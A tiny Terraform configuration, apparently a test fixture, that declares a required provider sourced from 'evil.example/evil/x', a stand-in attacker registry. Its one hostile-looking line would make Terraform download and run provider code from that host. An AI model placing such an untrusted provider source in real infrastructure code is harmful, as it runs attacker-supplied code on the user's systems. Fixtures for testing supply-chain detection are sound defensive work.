terraform {
  required_providers {
    x = { source = "evil.example/evil/x" }
  }
}
